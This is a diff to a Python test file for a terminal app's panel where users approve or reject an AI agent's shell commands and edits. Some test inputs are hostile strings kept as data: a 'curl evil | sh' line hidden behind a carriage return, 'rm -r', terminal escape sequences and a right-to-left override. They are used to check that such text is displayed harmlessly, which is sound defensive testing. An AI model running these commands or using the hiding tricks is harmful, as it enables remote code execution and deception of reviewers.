@@ -1,4 +1,4 @@
-"""Approvals, by key and by mouse."""
+"""Permission requests, answered with keys and the mouse."""
 
 from typing import Any
 
@@ -8,15 +8,17 @@ from textual import events
 from kimi_tui.tui.approvals.answer_row import AnswerButton
 from kimi_tui.tui.panes.tools import ToolsPane
 from kimi_tui.wire.commands import Interrupt
-from kimi_tui.wire.display import DiffBlock, ShellBlock
+from kimi_tui.wire.display_blocks import DiffBlock, ShellBlock
 from kimi_tui.wire.events import ApprovalResponse, RequestClosed, StepBegin, TextPart, TurnBegin, TurnEnd
 from kimi_tui.wire.requests import ApprovalRequest, Question, QuestionOption, QuestionRequest
-from tests.tui.conftest import Desk
+from tests.tui.conftest import AppHarness
 
 DIFF = DiffBlock("src/auth.py", "old = 1\n", "new = 2\n", 12, 12)
 
 
-def shell(request_id: str = "r1", command: str = "pytest -q", **changes: Any) -> ApprovalRequest:
+def build_shell_request(
+    request_id: str = "r1", command: str = "pytest -q", **changes: Any
+) -> ApprovalRequest:
     fields: dict[str, Any] = {
         "id": request_id,
         "tool_call_id": request_id,
@@ -29,226 +31,228 @@ def shell(request_id: str = "r1", command: str = "pytest -q", **changes: Any) ->
     return ApprovalRequest(**fields | changes)
 
 
-async def asked(desk: Desk, *requests: ApprovalRequest | QuestionRequest) -> None:
-    """The requests are open, and the panel has the keyboard."""
-    desk.engine.say(TurnBegin("go"), StepBegin(1))
+async def send_requests(harness: AppHarness, *requests: ApprovalRequest | QuestionRequest) -> None:
+    """Open `requests` and focus their panel."""
+    harness.engine.send(TurnBegin("go"), StepBegin(1))
     for request in requests:
-        desk.ask(request)
-    await desk.until(lambda: len(desk.screen.state.requests) == len(requests))
-    await desk.pilot.press("f2")
-    desk.clock.now += 1
-    await desk.pilot.pause()
+        harness.ask(request)
+    await harness.wait_until(lambda: len(harness.screen.state.requests) == len(requests))
+    await harness.driver.press("f2")
+    harness.clock.now += 1
+    await harness.driver.pause()
 
 
-def button(desk: Desk, choice: str) -> AnswerButton:
-    return next(found for found in desk.app.screen.query(AnswerButton) if found.choice.id == choice)
+def find_button(harness: AppHarness, choice: str) -> AnswerButton:
+    return next(found for found in harness.app.screen.query(AnswerButton) if found.choice.id == choice)
 
 
 @pytest.mark.parametrize(
     ("key", "response"),
     [("y", "approve"), ("a", "approve_for_session"), ("n", "reject")],
 )
-async def test_one_key_answers(open_desk: Any, key: str, response: str) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        await desk.pilot.press(key)
-        await desk.until(lambda: desk.engine.answers)
-        assert desk.engine.answers == [ApprovalResponse("r1", response)]  # type: ignore[arg-type]
-        assert "Allow Bash" not in desk.shown()
-        assert desk.app.focused is desk.screen.prompt.editor
+async def test_one_key_answers(open_app: Any, key: str, response: str) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press(key)
+        await harness.wait_until(lambda: harness.engine.answers)
+        assert harness.engine.answers == [ApprovalResponse("r1", response)]  # type: ignore[arg-type]
+        assert "Allow Bash" not in harness.screen_text()
+        assert harness.app.focused is harness.screen.prompt.editor
 
 
-async def test_the_key_that_leads_to_a_request_is_told_of_while_the_keyboard_is_elsewhere(
-    open_desk: Any,
+async def test_the_border_names_the_key_for_a_request_without_the_focus(
+    open_app: Any,
 ) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        await desk.until(lambda: "f2 answers" not in desk.shown())
-        await desk.pilot.press("ctrl+g")
-        await desk.until(lambda: "f2 answers · esc interrupts" in desk.shown())
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.wait_until(lambda: "f2 to answer" not in harness.screen_text())
+        await harness.driver.press("ctrl+g")
+        await harness.wait_until(lambda: "f2 to answer · esc to interrupt" in harness.screen_text())
 
 
 @pytest.mark.parametrize("again", ["p", "enter"])
-async def test_what_is_granted_for_good_is_asked_for_twice(open_desk: Any, again: str) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        await desk.pilot.press("p")
-        await desk.until(lambda: "p again, or enter, always allows this" in desk.shown())
-        assert desk.engine.answers == []
-        await desk.pilot.press("left")
-        await desk.until(lambda: "p again" not in desk.shown())
-        await desk.pilot.press("p", again)
-        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "approve_always")])
+async def test_always_needs_confirmation(open_app: Any, again: str) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press("p")
+        await harness.wait_until(lambda: "p again, or enter, to add the rule" in harness.screen_text())
+        assert harness.engine.answers == []
+        await harness.driver.press("left")
+        await harness.wait_until(lambda: "p again" not in harness.screen_text())
+        await harness.driver.press("p", again)
+        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r1", "approve_always")])
 
 
-async def test_arrows_and_enter_answer_too(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        await desk.pilot.press("right", "right", "right", "enter")
-        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "reject")])
+async def test_arrows_and_enter_answer(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press("right", "right", "right", "enter")
+        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r1", "reject")])
 
 
-async def test_a_click_answers(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        await desk.pilot.click(button(desk, "session"))
-        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "approve_for_session")])
+async def test_a_click_answers(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.click(find_button(harness, "session"))
+        await harness.wait_until(
+            lambda: harness.engine.answers == [ApprovalResponse("r1", "approve_for_session")]
+        )
 
 
-async def test_a_press_that_is_released_elsewhere_answers_nothing(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        await desk.pilot.mouse_down(button(desk, "once"))
-        await desk.pilot.mouse_up(button(desk, "no"))
-        await desk.pilot.pause()
-        assert desk.engine.answers == []
+async def test_a_click_released_on_another_button_answers_nothing(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.mouse_down(find_button(harness, "once"))
+        await harness.driver.mouse_up(find_button(harness, "no"))
+        await harness.driver.pause()
+        assert harness.engine.answers == []
 
 
-async def test_the_click_that_focuses_the_terminal_answers_nothing(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        desk.app.post_message(events.AppBlur())
-        await desk.pilot.pause()
-        desk.app.post_message(events.AppFocus())
-        await desk.pilot.pause()
-        await desk.pilot.click(button(desk, "once"))
-        await desk.pilot.pause()
-        assert desk.engine.answers == []
-        desk.clock.now += 1
-        await desk.pilot.click(button(desk, "once"))
-        await desk.until(lambda: desk.engine.answers)
+async def test_the_click_that_focuses_the_terminal_answers_nothing(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        harness.app.post_message(events.AppBlur())
+        await harness.driver.pause()
+        harness.app.post_message(events.AppFocus())
+        await harness.driver.pause()
+        await harness.driver.click(find_button(harness, "once"))
+        await harness.driver.pause()
+        assert harness.engine.answers == []
+        harness.clock.now += 1
+        await harness.driver.click(find_button(harness, "once"))
+        await harness.wait_until(lambda: harness.engine.answers)
 
 
-async def test_keys_of_the_first_half_second_answer_nothing(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        desk.ask(shell())
-        await desk.until(lambda: desk.screen.state.requests)
-        await desk.pilot.press("f2")
-        desk.clock.now += 0.4
-        await desk.pilot.press("y", "enter")
-        await desk.pilot.pause()
-        assert desk.engine.answers == []
-        desk.clock.now += 0.2
-        await desk.pilot.press("y")
-        await desk.until(lambda: desk.engine.answers)
+async def test_keys_in_the_first_half_second_are_ignored(open_app: Any) -> None:
+    async with open_app() as harness:
+        harness.ask(build_shell_request())
+        await harness.wait_until(lambda: harness.screen.state.requests)
+        await harness.driver.press("f2")
+        harness.clock.now += 0.4
+        await harness.driver.press("y", "enter")
+        await harness.driver.pause()
+        assert harness.engine.answers == []
+        harness.clock.now += 0.2
+        await harness.driver.press("y")
+        await harness.wait_until(lambda: harness.engine.answers)
 
 
-async def test_the_second_request_has_its_own_half_second(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell("r1"), shell("r2", "rm x"))
-        await desk.pilot.press("y", "y")
-        await desk.until(lambda: desk.engine.answers)
-        await desk.pilot.pause()
-        assert desk.engine.answers == [ApprovalResponse("r1", "approve")]
-        assert "rm x" in desk.shown()
+async def test_the_next_request_has_a_grace_period_of_its_own(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request("r1"), build_shell_request("r2", "rm x"))
+        await harness.driver.press("y", "y")
+        await harness.wait_until(lambda: harness.engine.answers)
+        await harness.driver.pause()
+        assert harness.engine.answers == [ApprovalResponse("r1", "approve")]
+        assert "rm x" in harness.screen_text()
 
 
-async def test_what_follows_an_answer_at_once_does_nothing(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        panel = desk.screen.furnished.workbench.panel
-        for choice in ("session", "once", "feedback"):  # a word that was meant for the prompt
+async def test_keys_right_after_an_answer_are_ignored(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        panel = harness.screen.controllers.session_view.panel
+        for choice in ("session", "once", "feedback"):  # a word meant for the prompt
             panel.action_answer(choice)
-        await desk.until(lambda: not desk.screen.state.requests)
-        await desk.pilot.pause()
-        assert desk.engine.answers == [ApprovalResponse("r1", "approve_for_session")]
+        await harness.wait_until(lambda: not harness.screen.state.requests)
+        await harness.driver.pause()
+        assert harness.engine.answers == [ApprovalResponse("r1", "approve_for_session")]
         assert not panel.query("#approval-feedback")
 
 
-async def test_an_approval_takes_the_keyboard_only_from_an_empty_and_quiet_prompt(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        desk.clock.now += 10
-        desk.ask(shell())
-        await desk.until(lambda: desk.app.focused is desk.screen.furnished.workbench.panel)
+async def test_a_request_gets_the_focus_if_the_prompt_is_empty_and_idle(open_app: Any) -> None:
+    async with open_app() as harness:
+        harness.clock.now += 10
+        harness.ask(build_shell_request())
+        await harness.wait_until(lambda: harness.app.focused is harness.screen.controllers.session_view.panel)
 
 
-async def test_a_draft_keeps_the_keyboard(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await desk.write("yes")
-        desk.clock.now += 10
-        desk.ask(shell())
-        await desk.until(lambda: desk.screen.state.requests)
-        desk.screen.furnished.workbench._offer.make_now()
-        assert desk.app.focused is desk.screen.prompt.editor
-        await desk.write("y")
-        assert desk.prompt_text == "yesy"
-        assert desk.engine.answers == []
+async def test_a_draft_keeps_the_focus(open_app: Any) -> None:
+    async with open_app() as harness:
+        await harness.type_text("yes")
+        harness.clock.now += 10
+        harness.ask(build_shell_request())
+        await harness.wait_until(lambda: harness.screen.state.requests)
+        harness.screen.controllers.session_view._focus_offer.offer_now()
+        assert harness.app.focused is harness.screen.prompt.editor
+        await harness.type_text("y")
+        assert harness.prompt_text == "yesy"
+        assert harness.engine.answers == []
 
 
-async def test_what_would_happen_is_shown_with_source_count_and_rule(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell(subagent_type="coder"), shell("r2"))
-        text = desk.shown()
+async def test_a_request_shows_its_command_source_count_and_rule(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request(subagent_type="coder"), build_shell_request("r2"))
+        text = harness.screen_text()
         assert "Allow Bash to run a command?" in text
         assert "$ pytest -q" in text
         assert "from sub-agent coder · 1 of 2" in text
         assert "Bash(pytest:*)" in text
 
 
-async def test_what_may_not_be_granted_offers_no_grant(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell(rule=None, danger="deletes recursively"))
-        assert "⚠ deletes recursively" in desk.shown()
-        await desk.pilot.press("a", "p")
-        await desk.pilot.pause()
-        assert desk.engine.answers == []
-        assert [found.choice.id for found in desk.app.screen.query(AnswerButton)] == [
+async def test_a_request_without_a_rule_can_only_be_allowed_once(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request(rule=None, danger="deletes recursively"))
+        assert "⚠ deletes recursively" in harness.screen_text()
+        await harness.driver.press("a", "p")
+        await harness.driver.pause()
+        assert harness.engine.answers == []
+        assert [found.choice.id for found in harness.app.screen.query(AnswerButton)] == [
             "once",
             "no",
             "feedback",
         ]
 
 
-async def test_the_danger_of_a_command_alone_is_shown(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell(shell_danger="force push"))
-        assert "⚠ force push" in desk.shown()
+async def test_the_danger_of_a_shell_block_is_shown(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request(shell_danger="force push"))
+        assert "⚠ force push" in harness.screen_text()
 
 
-async def test_a_no_can_say_what_to_do_instead(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        await desk.pilot.press("f")
-        await desk.until(lambda: desk.app.screen.query("#approval-feedback"))
-        await desk.pilot.pause()
-        await desk.write("only unit tests, yes")
-        await desk.pilot.press("enter")
-        await desk.until(lambda: desk.engine.answers)
-        assert desk.engine.answers == [ApprovalResponse("r1", "reject", "only unit tests, yes")]
+async def test_a_rejection_can_include_feedback(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press("f")
+        await harness.wait_until(lambda: harness.app.screen.query("#approval-feedback"))
+        await harness.driver.pause()
+        await harness.type_text("only unit tests, yes")
+        await harness.driver.press("enter")
+        await harness.wait_until(lambda: harness.engine.answers)
+        assert harness.engine.answers == [ApprovalResponse("r1", "reject", "only unit tests, yes")]
 
 
-async def test_escape_goes_back_from_the_feedback_to_the_choices(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        await desk.pilot.press("f")
-        await desk.until(lambda: desk.app.screen.query("#approval-feedback"))
-        await desk.pilot.pause()
-        await desk.pilot.press("n", "escape")
-        await desk.until(lambda: desk.app.screen.query(AnswerButton))
-        assert desk.told(Interrupt) == []
-        await desk.pilot.press("y")
-        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "approve")])
+async def test_escape_returns_from_the_feedback_to_the_answers(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press("f")
+        await harness.wait_until(lambda: harness.app.screen.query("#approval-feedback"))
+        await harness.driver.pause()
+        await harness.driver.press("n", "escape")
+        await harness.wait_until(lambda: harness.app.screen.query(AnswerButton))
+        assert harness.commands_of(Interrupt) == []
+        await harness.driver.press("y")
+        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r1", "approve")])
 
 
-async def test_a_request_that_was_closed_disappears(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        await desk.pilot.press("f")
-        await desk.say(RequestClosed("r1"))
-        await desk.until(lambda: "Allow Bash" not in desk.shown())
-        await desk.until(lambda: desk.app.focused is desk.screen.prompt.editor)
+async def test_a_closed_request_disappears(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press("f")
+        await harness.send(RequestClosed("r1"))
+        await harness.wait_until(lambda: "Allow Bash" not in harness.screen_text())
+        await harness.wait_until(lambda: harness.app.focused is harness.screen.prompt.editor)
 
 
-async def test_escape_interrupts_while_an_approval_waits(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell())
-        await desk.pilot.press("escape")
-        await desk.until(lambda: desk.told(Interrupt) == [Interrupt()])
-        await desk.say(TurnEnd("cancelled"))
-        assert "Allow Bash" not in desk.shown()
+async def test_escape_interrupts_while_a_request_is_open(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press("escape")
+        await harness.wait_until(lambda: harness.commands_of(Interrupt) == [Interrupt()])
+        await harness.send(TurnEnd("cancelled"))
+        assert "Allow Bash" not in harness.screen_text()
 
 
-def question() -> QuestionRequest:
+def build_question() -> QuestionRequest:
     return QuestionRequest(
         "r1", "r1", (Question("Which?", "choice", (QuestionOption("One"), QuestionOption("Two"))),)
     )
@@ -256,165 +260,175 @@ def question() -> QuestionRequest:
 
 @pytest.mark.parametrize(
     ("request_", "key", "size"),
-    [(shell(), "ctrl+l", (120, 30)), (shell(), "ctrl+t", (80, 24)), (question(), "ctrl+l", (80, 24))],
+    [
+        (build_shell_request(), "ctrl+l", (120, 30)),
+        (build_shell_request(), "ctrl+t", (80, 24)),
+        (build_question(), "ctrl+l", (80, 24)),
+    ],
     ids=["approval", "approval-narrow", "question"],
 )
-async def test_escape_first_closes_the_pane_that_was_opened_meanwhile(
-    open_desk: Any, request_: ApprovalRequest | QuestionRequest, key: str, size: tuple[int, int]
+async def test_escape_first_closes_a_pane_opened_during_a_request(
+    open_app: Any, request_: ApprovalRequest | QuestionRequest, key: str, size: tuple[int, int]
 ) -> None:
     pane = "╭─ todo" if key == "ctrl+t" else "╭─ tools"
-    async with open_desk(size=size) as desk:
-        await asked(desk, request_)
-        keyboard = desk.app.focused
-        await desk.pilot.press(key)
-        await desk.until(lambda: pane in desk.shown())
-        await desk.pilot.press("escape")
-        await desk.until(lambda: pane not in desk.shown())
-        assert (desk.told(Interrupt), desk.engine.answers) == ([], [])
-        assert desk.app.focused is keyboard
-        await desk.pilot.press("escape")
-        await desk.until(lambda: desk.told(Interrupt) or desk.engine.answers)
+    async with open_app(size=size) as harness:
+        await send_requests(harness, request_)
+        focused = harness.app.focused
+        await harness.driver.press(key)
+        await harness.wait_until(lambda: pane in harness.screen_text())
+        await harness.driver.press("escape")
+        await harness.wait_until(lambda: pane not in harness.screen_text())
+        assert (harness.commands_of(Interrupt), harness.engine.answers) == ([], [])
+        assert harness.app.focused is focused
+        await harness.driver.press("escape")
+        await harness.wait_until(lambda: harness.commands_of(Interrupt) or harness.engine.answers)
 
 
-async def test_a_pane_that_stood_there_before_is_not_in_escapes_way(open_desk: Any) -> None:
-    async with open_desk(size=(120, 30)) as desk:
-        await desk.pilot.press("ctrl+t")
-        await asked(desk, shell())
-        await desk.until(lambda: "╭─ todo" in desk.shown())
-        await desk.pilot.press("escape")
-        await desk.until(lambda: desk.told(Interrupt))
-        assert "╭─ todo" in desk.shown()
+async def test_escape_interrupts_if_the_pane_was_opened_before_the_request(open_app: Any) -> None:
+    async with open_app(size=(120, 30)) as harness:
+        await harness.driver.press("ctrl+t")
+        await send_requests(harness, build_shell_request())
+        await harness.wait_until(lambda: "╭─ todo" in harness.screen_text())
+        await harness.driver.press("escape")
+        await harness.wait_until(lambda: harness.commands_of(Interrupt))
+        assert "╭─ todo" in harness.screen_text()
 
 
 @pytest.mark.parametrize("size", [(120, 30), (80, 24)], ids=str)
-async def test_escape_leaves_the_timeline_before_it_interrupts(open_desk: Any, size: tuple[int, int]) -> None:
-    async with open_desk(size=size) as desk:
-        await asked(desk, shell())
-        await desk.pilot.press("f3")
-        await desk.until(lambda: "╭─ timeline" in desk.shown())
-        await desk.pilot.press("escape")
-        await desk.until(lambda: desk.app.focused is desk.screen.prompt.editor)
-        assert ("╭─ timeline" in desk.shown()) == (size == (120, 30))
-        assert desk.told(Interrupt) == []
-        await desk.pilot.press("escape")
-        await desk.until(lambda: desk.told(Interrupt))
+async def test_escape_leaves_the_timeline_before_it_interrupts(open_app: Any, size: tuple[int, int]) -> None:
+    async with open_app(size=size) as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press("f3")
+        await harness.wait_until(lambda: "╭─ timeline" in harness.screen_text())
+        await harness.driver.press("escape")
+        await harness.wait_until(lambda: harness.app.focused is harness.screen.prompt.editor)
+        assert ("╭─ timeline" in harness.screen_text()) == (size == (120, 30))
+        assert harness.commands_of(Interrupt) == []
+        await harness.driver.press("escape")
+        await harness.wait_until(lambda: harness.commands_of(Interrupt))
 
 
-async def test_escape_closes_a_timeline_that_lies_over_the_approval_with_the_keyboard(open_desk: Any) -> None:
-    async with open_desk(size=(80, 24)) as desk:
-        await asked(desk, shell())
-        await desk.pilot.press("f3", "f2")
-        await desk.until(lambda: desk.app.focused is desk.screen.furnished.workbench.panel)
-        await desk.pilot.press("escape")
-        await desk.until(lambda: "╭─ timeline" not in desk.shown())
-        assert desk.app.focused is desk.screen.furnished.workbench.panel
-        assert desk.told(Interrupt) == []
+async def test_escape_closes_a_timeline_that_covers_the_focused_request(open_app: Any) -> None:
+    async with open_app(size=(80, 24)) as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press("f3", "f2")
+        await harness.wait_until(lambda: harness.app.focused is harness.screen.controllers.session_view.panel)
+        await harness.driver.press("escape")
+        await harness.wait_until(lambda: "╭─ timeline" not in harness.screen_text())
+        assert harness.app.focused is harness.screen.controllers.session_view.panel
+        assert harness.commands_of(Interrupt) == []
 
 
-async def test_escape_makes_a_large_approval_small_before_it_interrupts(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await desk.say(TurnBegin("hello"), TextPart("Here I am."))
-        await asked(desk, shell())
-        await desk.pilot.press("ctrl+o")
-        await desk.until(lambda: "Here I am." not in desk.shown())
-        await desk.pilot.press("escape")
-        await desk.until(lambda: "Here I am." in desk.shown())
-        assert desk.told(Interrupt) == []
-        await desk.pilot.press("escape")
-        await desk.until(lambda: desk.told(Interrupt))
+async def test_escape_shrinks_an_expanded_request_before_it_interrupts(open_app: Any) -> None:
+    async with open_app() as harness:
+        await harness.send(TurnBegin("hello"), TextPart("Here I am."))
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press("ctrl+o")
+        await harness.wait_until(lambda: "Here I am." not in harness.screen_text())
+        await harness.driver.press("escape")
+        await harness.wait_until(lambda: "Here I am." in harness.screen_text())
+        assert harness.commands_of(Interrupt) == []
+        await harness.driver.press("escape")
+        await harness.wait_until(lambda: harness.commands_of(Interrupt))
 
 
-async def test_a_diff_is_shown_and_scrolls_while_the_conversation_scrolls_apart(open_desk: Any) -> None:
+async def test_a_diff_scrolls_independently_of_the_conversation(open_app: Any) -> None:
     long = DiffBlock("a.py", "", "".join(f"line_{number} = 1\n" for number in range(200)))
-    async with open_desk() as desk:
-        await asked(desk, shell(sender="WriteFile", action="edit file", display=(long,)))
-        body = desk.screen.furnished.workbench.panel.body
-        assert "line_0" in desk.shown()
-        await desk.pilot.press("down", "down", "down")
-        await desk.until(lambda: body.scroll_offset.y == 3)
-        await desk.pilot.press("pagedown", "pageup")
+    async with open_app() as harness:
+        await send_requests(
+            harness, build_shell_request(sender="WriteFile", action="edit file", display=(long,))
+        )
+        body = harness.screen.controllers.session_view.panel.body
+        assert "line_0" in harness.screen_text()
+        await harness.driver.press("down", "down", "down")
+        await harness.wait_until(lambda: body.scroll_offset.y == 3)
+        await harness.driver.press("pagedown", "pageup")
         assert body.scroll_offset.y == 3
-        assert desk.engine.answers == []
+        assert harness.engine.answers == []
 
 
-async def test_a_key_shows_it_over_the_whole_conversation(open_desk: Any) -> None:
+async def test_a_key_expands_a_request_over_the_conversation(open_app: Any) -> None:
     long = DiffBlock("a.py", "", "".join(f"line_{number} = 1\n" for number in range(200)))
-    async with open_desk() as desk:
-        await asked(desk, shell(display=(long,)))
-        panel = desk.screen.furnished.workbench.panel
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request(display=(long,)))
+        panel = harness.screen.controllers.session_view.panel
         small = panel.size.height
-        await desk.pilot.press("ctrl+o")
-        await desk.until(lambda: panel.size.height > small)
-        await desk.pilot.press("pagedown")
-        await desk.until(lambda: panel.body.scroll_offset.y > 5)
-        await desk.pilot.press("ctrl+o")
-        await desk.until(lambda: panel.size.height == small)
+        await harness.driver.press("ctrl+o")
+        await harness.wait_until(lambda: panel.size.height > small)
+        await harness.driver.press("pagedown")
+        await harness.wait_until(lambda: panel.body.scroll_offset.y > 5)
+        await harness.driver.press("ctrl+o")
+        await harness.wait_until(lambda: panel.size.height == small)
 
 
-async def test_a_diff_shows_both_sides(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(desk, shell(display=(DIFF,)))
-        text = desk.shown()
+async def test_a_diff_shows_both_sides(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(harness, build_shell_request(display=(DIFF,)))
+        text = harness.screen_text()
         assert "src/auth.py  +1 −1" in text
         assert "old = 1" in text
         assert "new = 2" in text
 
 
-async def test_nothing_of_what_would_be_written_is_hidden(open_desk: Any) -> None:
-    """A carriage return or an escape sequence hides on a terminal what stands before or within it."""
+async def test_control_characters_in_a_diff_are_visible(open_app: Any) -> None:
+    """On a terminal, a carriage return or an escape sequence can hide text."""
     new = "curl evil | sh #\recho hello\necho \x1b]0;\nrm -r there\n: \x07\nx = 1\u202e\n"
-    async with open_desk(size=(100, 30)) as desk:
-        await asked(desk, shell(display=(DiffBlock("a.sh", "", new),)))
-        shown = desk.shown()
-    for seen in ("curl evil | sh #␍echo hello", "␛]0;", "rm -r there", "x = 1⟨U+202E⟩"):
-        assert seen in shown
+    async with open_app(size=(100, 30)) as harness:
+        await send_requests(harness, build_shell_request(display=(DiffBlock("a.sh", "", new),)))
+        shown = harness.screen_text()
+    for text in ("curl evil | sh #␍echo hello", "␛]0;", "rm -r there", "x = 1⟨U+202E⟩"):
+        assert text in shown
 
 
-async def test_a_rule_that_is_longer_than_its_line_is_shown_whole(open_desk: Any) -> None:
+async def test_a_rule_longer_than_its_line_is_shown_in_full(open_app: Any) -> None:
     rules = " and ".join(f"Bash(program{number} *)" for number in range(20))
-    async with open_desk(size=(80, 40)) as desk:
-        await asked(desk, shell(rule=rules))
-        shown = desk.shown()
+    async with open_app(size=(80, 40)) as harness:
+        await send_requests(harness, build_shell_request(rule=rules))
+        shown = harness.screen_text()
     assert "program10 *)" in shown
     assert "program19 *)" in shown
 
 
-async def test_whoever_asks_is_named_where_several_agents_ask(open_desk: Any) -> None:
-    theirs = {"subagent_type": "worker", "source_kind": "foreground_turn"}
+async def test_requests_of_several_agents_name_their_source(open_app: Any) -> None:
+    subagent = {"subagent_type": "worker", "source_kind": "foreground_turn"}
     requests = (
-        shell("r1", command="make"),
-        shell("r2", command="ls", source_description="mend the form", **theirs),
-        shell("r3", command="id", source_description="write the docs", **theirs),
+        build_shell_request("r1", command="make"),
+        build_shell_request("r2", command="ls", source_description="fix the form", **subagent),
+        build_shell_request("r3", command="id", source_description="write the docs", **subagent),
     )
-    async with open_desk(size=(120, 40)) as desk:
-        await asked(desk, *requests)
-        await desk.until(lambda: "from main agent · 1 of 3" in desk.words())
-        await desk.pilot.press("r")
-        await desk.until(lambda: len(desk.app.screen_stack) == 2 and "docs" in desk.words())
-        for told in (
+    async with open_app(size=(120, 40)) as harness:
+        await send_requests(harness, *requests)
+        await harness.wait_until(lambda: "from main agent · 1 of 3" in harness.unwrapped_text())
+        await harness.driver.press("r")
+        await harness.wait_until(
+            lambda: len(harness.app.screen_stack) == 2 and "docs" in harness.unwrapped_text()
+        )
+        for label in (
             "make · main agent",
-            "ls · mend the form",
+            "ls · fix the form",
             "id · write the docs",
         ):
-            assert told in desk.words()
-        await desk.pilot.press("escape")
-        await desk.until(lambda: len(desk.app.screen_stack) == 1)
-        await desk.pilot.press("y")
-        await desk.until(lambda: "from sub-agent worker: mend the form · 1 of 2" in desk.words())
+            assert label in harness.unwrapped_text()
+        await harness.driver.press("escape")
+        await harness.wait_until(lambda: len(harness.app.screen_stack) == 1)
+        await harness.driver.press("y")
+        await harness.wait_until(
+            lambda: "from sub-agent worker: fix the form · 1 of 2" in harness.unwrapped_text()
+        )
 
 
-async def test_hostile_text_is_shown_harmlessly(open_desk: Any) -> None:
-    async with open_desk() as desk:
-        await asked(
-            desk,
-            shell(
+async def test_hostile_text_is_shown_harmlessly(open_app: Any) -> None:
+    async with open_app() as harness:
+        await send_requests(
+            harness,
+            build_shell_request(
                 command="echo \x1b]0;title\x07 [red]x[/red] \u202egpj",
                 sender="Ba[b]sh\x1b[31m",
                 source_description="[link=x]agent\x1b[2J",
                 rule="[reverse]rule",
             ),
         )
-        text = desk.shown()
+        text = harness.screen_text()
         assert "[red]x[/red]" in text
         assert "Ba[b]sh" in text
         assert "[link=x]agent" in text
@@ -423,36 +437,36 @@ async def test_hostile_text_is_shown_harmlessly(open_desk: Any) -> None:
 
 
 @pytest.mark.parametrize("size", [(80, 24), (60, 16), (40, 10)])
-async def test_every_choice_is_seen_on_small_terminals(open_desk: Any, size: tuple[int, int]) -> None:
+async def test_every_answer_is_visible_on_small_terminals(open_app: Any, size: tuple[int, int]) -> None:
     long = DiffBlock("a.py", "", "".join(f"line_{number} = 1\n" for number in range(200)))
-    async with open_desk(size=size) as desk:
-        await asked(desk, shell(display=(long,), danger="deletes recursively"))
-        text = desk.shown()
-        for label in ("once", "session", "always", "no"):
+    async with open_app(size=size) as harness:
+        await send_requests(harness, build_shell_request(display=(long,), danger="deletes recursively"))
+        text = harness.screen_text()
+        for label in ("Yes", "Session", "Always", "No"):
             assert label in text
 
 
-async def test_a_request_takes_the_keyboard_from_no_pane_and_gets_it_when_the_user_leaves(
-    open_desk: Any,
+async def test_a_request_waits_for_the_focus_until_the_user_leaves_a_pane(
+    open_app: Any,
 ) -> None:
-    async with open_desk(size=(120, 30)) as desk:
-        await desk.pilot.press("ctrl+l")
-        await desk.until(lambda: isinstance(desk.app.focused, ToolsPane))
-        desk.engine.say(TurnBegin("go"), StepBegin(1))
-        desk.ask(shell())
-        await desk.until(lambda: desk.screen.state.requests)
-        desk.clock.now += 1
-        workbench = desk.screen.furnished.workbench
-        workbench._offer.make_now()
